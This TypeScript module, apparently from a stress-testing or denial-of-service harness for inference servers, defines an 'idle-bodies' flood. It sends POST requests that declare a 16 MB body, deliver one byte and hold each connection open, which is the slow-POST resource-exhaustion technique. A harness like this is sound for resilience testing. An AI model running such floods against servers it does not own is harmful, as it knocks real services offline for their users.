import { holdConnections } from '../held-connections.ts';
import type { Flood } from '../kind.ts';
import { numbers } from '../models.ts';
import { inferOf } from '../request-flood.ts';

export const idleBodies: Flood = {
  name: 'idle-bodies',
  about: 'large bodies that are declared, and of which one byte comes',
  perSecond: 5,
  prepare: (target, attacker) =>
    holdConnections(target, attacker, {
      method: 'POST',
      path: inferOf(numbers.name),
      headers: {
        'content-type': 'application/octet-stream',
        'inference-header-content-length': '0',
        'content-length': String(16 * 1024 * 1024),
      },
      first: Uint8Array.of(0),
    }),
};
